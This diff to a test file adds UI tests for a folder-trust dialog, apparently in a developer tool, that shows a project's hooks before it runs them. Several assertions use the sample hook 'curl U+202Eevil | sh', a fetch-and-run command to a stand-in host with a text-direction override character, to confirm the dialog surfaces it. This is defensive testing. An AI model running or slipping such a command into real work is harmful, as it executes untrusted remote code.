@@ -118,6 +118,7 @@ describe("a folder that provides something", () => {
     await greet({ device: hello("s-1", "operate").device });
     await press("Start");
     await answer("get_trust", report("untrusted", [HOOK]));
+    expect(root.querySelector("dialog")?.getAttribute("aria-label")).toBe("Review what this folder provides");
     expect(root.querySelector("dialog")?.textContent).toContain("curl U+202Eevil | sh");
     expect(root.querySelector("dialog")?.textContent).toContain("needs full access");
     expect(root.querySelector("dialog")?.textContent).toContain("aqueduct trust /proj/api");
@@ -140,6 +141,16 @@ describe("a folder that provides something", () => {
     await act(async () => asked?.answer(true));
     expect(world.socket.ofType("start").at(-1)).toMatchObject({ projectPath: "/proj/api", confirm: "v-1" });
     expect(world.socket.ofType("trust_folder")).toHaveLength(1);
+  });
+
+  it("is looked at again when the bridge refuses to start without trust", async () => {
+    await greet();
+    await press("Start");
+    await answer("get_trust", report("nothing", []));
+    await answer("start", { type: "error", code: "trust_required", message: "changed" });
+    await answer("get_trust", report("untrusted", [HOOK]));
+    expect(root.querySelector("dialog")?.textContent).toContain("curl U+202Eevil | sh");
+    expect(app.toasts.shown.value).toEqual([]);
   });
 
   it("shows the difference when it changed, in words", async () => {
